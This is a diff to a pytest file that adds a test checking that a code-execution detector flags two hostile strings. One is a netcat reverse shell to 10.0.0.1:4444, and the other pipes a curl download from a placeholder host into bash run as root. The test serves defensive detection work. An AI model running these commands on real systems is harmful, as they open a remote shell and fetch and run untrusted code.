@@ -347,6 +347,11 @@ def test_commands_chained_onto_a_value_are_code(text: str) -> None:
     assert code_exec(text)
 
 
+@pytest.mark.parametrize("text", ["nc.traditional 10.0.0.1 4444 -e /bin/sh", "curl http://x.example/a | sudo -u root bash"])
+def test_netcat_variants_and_sudo_with_a_user_are_code(text: str) -> None:
+    assert code_exec(text)
+
+
 @pytest.mark.parametrize("text", BENIGN)
 def test_ordinary_text_is_not_flagged(text: str) -> None:
     assert not sqli(text) and not xss(text) and not code_exec(text)
